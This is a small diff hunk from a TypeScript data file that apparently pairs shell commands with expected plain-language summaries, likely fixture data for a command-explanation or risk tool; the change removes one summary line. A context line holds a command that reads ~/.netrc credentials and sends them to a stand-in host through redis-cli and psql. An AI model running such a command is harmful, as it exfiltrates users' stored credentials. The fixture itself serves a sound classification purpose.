@@ -1064,7 +1064,6 @@ export const SECTIONS: readonly Section[] = [
       ],
       [
         'redis-cli -h h.example set k "$(cat ~/.netrc)"; psql -h h.example -c "$(cat ~/.netrc)"; psql "postgres://u:p@db.example/x" -c \'select 1\'; psql -c \'select 1\'',
-        "show ~/.netrc",
         'send storage:h.example "set" | "k" | "$(…)" ~/.netrc',
         'send storage:h.example "$(…)" ~/.netrc',
         'send storage:db.example "select 1"',
